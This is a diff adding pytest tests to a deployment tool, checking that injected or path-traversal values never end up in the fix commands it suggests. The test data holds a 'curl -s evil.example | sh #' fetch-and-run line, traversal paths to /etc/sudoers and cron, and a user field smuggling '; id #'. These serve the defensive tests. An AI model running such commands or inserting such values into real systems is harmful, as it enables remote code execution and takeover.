@@ -72,6 +72,31 @@ def test_a_place_beside_ours_that_begins_alike_is_not_ours() -> None:
     assert finding.cure == "sudo install -d -o deploy /srv/shop"
 
 
+@pytest.mark.parametrize(
+    "fact",
+    [
+        ("unwritable", "/srv/shop/../../etc/sudoers", ""),
+        ("unwritable", "/srv/shop/releases/../../../etc", "Read-only file system"),
+        ("unwritable", "/etc", ""),
+        ("notdir", "-rf", ""),
+        ("current-directory", "../../../etc/cron.d/x", ""),
+        ("current-dangling", "x", "../../etc"),
+        ("tool", "curl -s evil.example | sh #", ""),
+    ],
+)
+def test_a_name_that_our_script_cannot_have_printed_is_in_no_command(
+    fact: tuple[str, str, str],
+) -> None:
+    (finding,) = judge(fact)
+    assert finding.cure == "look at web1 yourself"
+
+
+def test_a_user_that_can_be_none_is_in_no_command() -> None:
+    text = "unwritable\0/srv/shop\0\0user\0root /etc; id #\0\0"
+    (finding,) = parse_examine("web1", text, ReleaseOptions(to="/srv/shop"))
+    assert finding.cure == "sudo chown 'the login' /srv/shop"
+
+
 def test_every_fact_that_is_trouble_has_a_cure() -> None:
     findings = judge(
         ("tool", "mv -T", ""),
